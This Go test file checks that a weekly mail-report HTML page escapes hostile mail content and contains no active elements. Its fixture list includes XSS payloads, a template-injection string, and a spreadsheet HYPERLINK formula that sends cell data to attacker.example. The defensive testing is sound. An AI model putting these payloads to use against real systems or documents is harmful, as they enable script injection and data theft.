package main

import (
	"bytes"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"graphmail/graphtest"
)

// hostile is what strangers may write.
var hostile = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`</text></svg><script>alert(2)</script>`,
	`{{.Owner}}`,
	"\u202eRight to left override",
	"שלום עולם, נתראה מחר",
	"👩‍👩‍👧‍👦🇨🇭 " + strings.Repeat("endless", 60),
	"\x01\x0b\x1bcontrol",
	`=HYPERLINK("http://attacker.example/?"&A1,"Invoice")`,
}

// hostileServer is a server whose week is full of it: names, addresses, subjects,
// files and folders.
func hostileServer(t *testing.T) *graphtest.Server {
	t.Helper()
	const owner = "nora.keller@contoso.com"
	server := graphtest.NewServer()
	for n, s := range hostile {
		folder, err := server.AddFolder(owner, graphtest.Entity{"displayName": s})
		if err != nil {
			t.Fatal(err)
		}
		for range 20 {
			_, err = server.AddMessage(owner, graphtest.Entity{
				"receivedDateTime": "2026-11-18T10:00:00Z", "isDraft": false, "isRead": false, "hasAttachments": true,
				"parentFolderId": folder, "subject": s, "conversationId": "hostile" + string(rune('a'+n)),
				"from": map[string]any{"emailAddress": map[string]any{"name": s, "address": s + "@example.com"}},
				"attachments": []graphtest.Entity{{
					"@odata.type": "#microsoft.graph.fileAttachment", "id": "file" + string(rune('a'+n)), "name": s,
					"contentType": "text/html", "size": 123456789.0, "isInline": false,
				}},
			})
			if err != nil {
				t.Fatal(err)
			}
		}
	}
	return server
}

// TestPage checks that the page asks for nothing and runs nothing, whatever the
// mail says.
func TestPage(t *testing.T) {
	t.Parallel()
	for _, test := range []struct {
		name   string
		report *Report
		want   []string
	}{
		{"sample", loadFrom(t, graphtest.NewServer(), ""), []string{
			"Week 47, 16–22 November 2026", "Nora Keller", "21 h 23 min", "+1 on the week before", "Françoise Petit",
			"Projects/Atlas/Builds", "6.4 kB", "All 43 messages of the week",
		}},
		{"hostile", loadFrom(t, hostileServer(t), ""), []string{
			"<script>alert(1)</script>", "{{.Owner}}", "שלום עולם, נתראה מחר", "Who wrote",
		}},
		{"empty", loadFrom(t, graphtest.NewServer(), "2024-07-03"), []string{
			"No mail was received or sent in this week.", "Nobody wrote in this week.", "Nothing was answered in this week.",
			"Nobody waits for an answer.", "Nothing was attached in this week.", "All 0 messages of the week",
		}},
		{"nothing unread", new(Report), []string{"Everything is read."}},
	} {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			var b bytes.Buffer
			if err := writePage(&b, test.report); err != nil {
				t.Fatal(err)
			}
			if dir := os.Getenv("PAGES"); dir != "" {
				os.WriteFile(filepath.Join(dir, test.name+".html"), b.Bytes(), 0o600)
			}
			root, err := html.Parse(&b)
			if err != nil {
				t.Fatal(err)
			}
			var text strings.Builder
			for n := range root.Descendants() {
				switch n.Type {
				case html.ElementNode:
					checkElement(t, n)
				case html.TextNode:
					text.WriteString(n.Data)
				}
			}
			for _, want := range test.want {
				if !strings.Contains(text.String(), want) {
					t.Errorf("the page's text lacks %q", want)
				}
			}
		})
	}
}

// pageElements are the elements the page is made of; none of them loads or runs
// anything.
var pageElements = strings.Fields(`html head meta title style body main header footer section div h1 h2 p b strong small span
	bdi time figure figcaption table caption thead tbody tr th td details summary svg g path text rect line circle`)

func checkElement(t *testing.T, n *html.Node) {
	t.Helper()
	if !slices.Contains(pageElements, n.Data) {
		t.Errorf("the page has an element <%s>", n.Data)
	}
	for _, a := range n.Attr {
		switch {
		case strings.HasPrefix(a.Key, "on"), a.Key == "src", a.Key == "href", a.Key == "srcset", a.Key == "action":
			t.Errorf("<%s> has %s=%q", n.Data, a.Key, a.Val)
		case a.Key == "style" && strings.Contains(a.Val, "url("):
			t.Errorf("<%s> has style=%q", n.Data, a.Val)
		}
	}
	if n.Data == "style" && (strings.Contains(n.FirstChild.Data, "url(") || strings.Contains(n.FirstChild.Data, "@import")) {
		t.Error("the styles load something")
	}
}

func TestSpan(t *testing.T) {
	t.Parallel()
	for _, test := range []struct {
		seconds int64
		want    string
	}{
		{0, "0 min"}, {29, "0 min"}, {30, "1 min"}, {3569, "59 min"}, {3570, "1 h 0 min"},
		{86399, "1 d 0 h"}, {76967, "21 h 23 min"}, {274421, "3 d 4 h"},
	} {
		if got := span(test.seconds); got != test.want {
			t.Errorf("%d s: got %q, want %q", test.seconds, got, test.want)
		}
	}
}
